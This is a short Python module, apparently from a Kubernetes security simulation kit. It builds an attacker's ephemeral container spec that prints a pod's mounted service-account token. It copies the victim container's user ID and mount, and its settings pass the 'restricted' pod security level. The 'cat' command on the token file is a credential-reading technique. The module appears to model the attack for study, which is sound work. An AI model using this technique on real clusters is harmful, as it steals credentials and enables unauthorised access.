"""The container that an attacker adds to a running pod, to read the token of its service account."""

from __future__ import annotations

from typing import Any, Final

from simkit.meta.domain import label
from simkit.meta.objects import Object, at

TOKEN_FILE: Final = f"/var/run/secrets/{label('serviceaccount')}/token"
_SOME_USER: Final = 65532


def debugger(pod: Object) -> dict[str, Any]:
    """A container that prints the token which is mounted in a pod, without a name; the restricted level allows it.

    Notes
    -----
    It runs as the user of the first container: where all containers have one user, the kubelet gives the file to it
    alone (kubernetes pkg/volume/projected, release 1.30).
    """
    first = at(pod, "spec", "containers", 0) or {}
    mounts = [one for one in first.get("volumeMounts") or () if TOKEN_FILE.startswith(f"{one.get('mountPath')}/")]
    user = at(first, "securityContext", "runAsUser") or at(pod, "spec", "securityContext", "runAsUser") or _SOME_USER
    return {
        "image": "registry.example/tools:1",
        "command": ["sh", "-c", f"cat {TOKEN_FILE}; sleep 86400"],
        "volumeMounts": mounts,
        "securityContext": {
            "allowPrivilegeEscalation": False,
            "runAsNonRoot": True,
            "runAsUser": user,
            "capabilities": {"drop": ["ALL"]},
            "seccompProfile": {"type": "RuntimeDefault"},
        },
    }
